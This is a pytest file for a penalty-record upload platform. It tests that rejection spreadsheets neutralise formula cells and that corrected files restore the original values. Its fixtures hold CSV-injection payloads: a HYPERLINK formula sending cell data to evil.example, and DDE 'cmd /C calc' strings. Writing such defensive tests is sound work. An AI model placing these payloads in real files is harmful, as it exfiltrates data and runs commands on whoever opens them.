"""Rejection files carry no live formula into Excel, and the corrected file loads the department's values."""

from __future__ import annotations

import csv

import openpyxl
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from tests.collection.batch_support import (
    HEADERS,
    confirm_and_load,
    penalty_row,
    read_csv,
    rejection_copy,
    upload_penalties,
    valid_rows,
    write_csv,
)
from xinyong.collection.models import Batch, BatchStatus
from xinyong.collection.readers import write_rejection_file
from xinyong.core.spreadsheet import formula_safe, restore
from xinyong.records.models import CreditRecord

pytestmark = pytest.mark.django_db

# What an attacker (or a careless copy from a web page) puts into text columns of a department's file.
FORMULAS = {
    "违法事实": '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "处罚内容": "+cmd|' /C calc'!A0",
    "法定代表人": "@SUM(1+1)*cmd|' /C calc'!A0",
    "处罚依据": '=DDE("cmd";"/C calc";"!A0")',
}
EVIL_HEADER = "-2+3+cmd|' /C calc'!A0"


def formula_row(i: int, **overrides) -> dict:
    return penalty_row(i, **{**FORMULAS, **overrides})


def rejected_batch(tmp_path, dept_a, officer_a, *, encoding="utf-8") -> Batch:
    rows = [
        *valid_rows(2),
        formula_row(800, 处罚类别="打板子"),
        formula_row(801, **{"罚款金额（万元）": "-1.5"}),
    ]
    headers = [*HEADERS, EVIL_HEADER]
    for row in rows:
        row[EVIL_HEADER] = "=1+1"
    path = write_csv(tmp_path / f"处罚-{encoding}.csv", rows, encoding=encoding, headers=headers)
    batch = confirm_and_load(upload_penalties(path, department=dept_a, actor=officer_a), officer_a)
    assert batch.status == BatchStatus.DONE and batch.rejected == 2
    return batch


@pytest.mark.parametrize(("encoding", "rejection_encoding"), [("utf-8", "utf-8-sig"), ("gbk", "gb18030")])
def test_csv_rejection_file_quotes_formula_cells(
    catalog, dept_a, officer_a, tmp_path, encoding, rejection_encoding
):
    batch = rejected_batch(tmp_path, dept_a, officer_a, encoding=encoding)
    path = rejection_copy(batch, tmp_path / "out")
    with path.open(encoding=rejection_encoding, newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert all(formula_safe(cell) for cell in cells), [c for c in cells if not formula_safe(c)]
    rows = read_csv(path, encoding=rejection_encoding)
    first = {r["行政处罚决定书文号"]: r for r in rows}["甲市监罚〔2026〕800号"]
    assert first["违法事实"] == "'" + FORMULAS["违法事实"]
    assert first["处罚内容"] == "'" + FORMULAS["处罚内容"]
    assert "'" + EVIL_HEADER in rows[0]  # the header is the department's text too
    # A negative amount is a number, not a formula: it stays as it is.
    second = {r["行政处罚决定书文号"]: r for r in rows}["甲市监罚〔2026〕801号"]
    assert second["罚款金额（万元）"] == "-1.5"


def test_xlsx_rejection_file_has_text_cells_only(catalog, dept_a, officer_a, tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADERS)
    for row in [*valid_rows(2), formula_row(800, 处罚类别="打板子")]:
        ws.append([row[h] for h in HEADERS])
    # Texts as another system exports them: string cells that happen to start with "=" (openpyxl would
    # otherwise store them as formulas without a value).
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    path = tmp_path / "处罚.xlsx"
    wb.save(path)
    batch = confirm_and_load(upload_penalties(path, department=dept_a, actor=officer_a), officer_a)
    assert batch.rejected == 1
    sheet = openpyxl.load_workbook(rejection_copy(batch, tmp_path / "out")).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {sheet.cell(1, c.column).value: c for c in cells if c.row == 2}
    for header, formula in FORMULAS.items():
        assert values[header].value == formula  # the value itself is unchanged …
        assert values[header].quotePrefix  # … and Excel keeps it text even when the cell is edited


@pytest.mark.parametrize("reading_process", [False, True], ids=["one process", "reading process"])
def test_fixed_csv_rejection_file_loads_the_original_values(
    catalog, dept_a, officer_a, tmp_path, settings, reading_process
):
    # With a reading process, the chunks are prepared in a forked process that must not query the database.
    settings.XINYONG_COLLECTION_PIPELINE_MIN_BYTES = 0 if reading_process else -1
    batch = rejected_batch(tmp_path, dept_a, officer_a)
    path = rejection_copy(batch, tmp_path / "out")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header = rows[0]
    category = header.index("处罚类别")
    for row in rows[1:]:
        if row[category] == "打板子":
            row[category] = "警告"  # the officer fixes the error and keeps the rest as it is
    amount = header.index("罚款金额（万元）")
    for row in rows[1:]:
        if row[amount] == "-1.5":
            row[amount] = "1.5"
    fixed = tmp_path / "修正.csv"
    with fixed.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)

    child = confirm_and_load(
        upload_penalties(fixed, department=dept_a, actor=officer_a, parent=batch), officer_a
    )
    assert EVIL_HEADER in child.headers  # the header is the original again, so the saved mapping applies
    assert (child.created, child.rejected) == (2, 0)
    for number in ("甲市监罚〔2026〕800号", "甲市监罚〔2026〕801号"):
        fields = CreditRecord.objects.get(document_number=number).current_version.fields
        stored = " ".join(str(v) for v in fields.values())
        for formula in FORMULAS.values():
            assert formula in stored and "'" + formula not in stored


def test_a_quote_in_a_file_the_platform_did_not_issue_is_kept(catalog, dept_a, officer_a, tmp_path):
    path = write_csv(tmp_path / "处罚.csv", [penalty_row(1, 违法事实="'=1+1 按原文")])
    batch = confirm_and_load(upload_penalties(path, department=dept_a, actor=officer_a), officer_a)
    assert batch.created == 1
    fields = CreditRecord.objects.get().current_version.fields
    assert "'=1+1 按原文" in fields.values()


# Texts made mostly of the characters that matter, so that the interesting cases are found quickly.
cell_texts = st.text(
    alphabet=st.sampled_from(list("=+-@＝＋－＠'\t\r\n 　\u200b0123456789.Ab中|!")), min_size=1, max_size=10
)


@hsettings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(cell_texts, min_size=1, max_size=4), st.sampled_from(["utf-8", "gb18030"]))
def test_rejection_writer_csv_cells_are_inert_and_restore_to_the_original(tmp_path, values, encoding):
    path = tmp_path / f"rejected-{encoding}.csv"
    headers = [f"列{i}" for i in range(len(values))]
    write_rejection_file(path, format="csv", encoding=encoding, headers=headers, rows=[(values, [])])
    with path.open(encoding="utf-8-sig" if encoding == "utf-8" else "gb18030", newline="") as fh:
        written = list(csv.reader(fh))[1][: len(values)]
    assert all(formula_safe(cell) for cell in written)
    # What the reader does with a corrected file: the digits' text marker (tab) and the added quote go.
    assert [
        restore(cell[1:] if cell[:1] == "\t" and cell[1:].isdigit() else cell) for cell in written
    ] == values


@hsettings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(cell_texts, min_size=1, max_size=4))
def test_rejection_writer_xlsx_cells_are_text_with_the_original_value(tmp_path, values):
    path = tmp_path / "rejected.xlsx"
    headers = [f"列{i}" for i in range(len(values))]
    write_rejection_file(path, format="xlsx", encoding=None, headers=headers, rows=[(values, [])])
    row = openpyxl.load_workbook(path).worksheets[0][2][: len(values)]
    assert all(cell.data_type == "s" for cell in row)
    # XML itself turns a carriage return into a line feed.
    expected = [ILLEGAL_CHARACTERS_RE.sub("", v).replace("\r\n", "\n").replace("\r", "\n") for v in values]
    assert [cell.value for cell in row] == expected
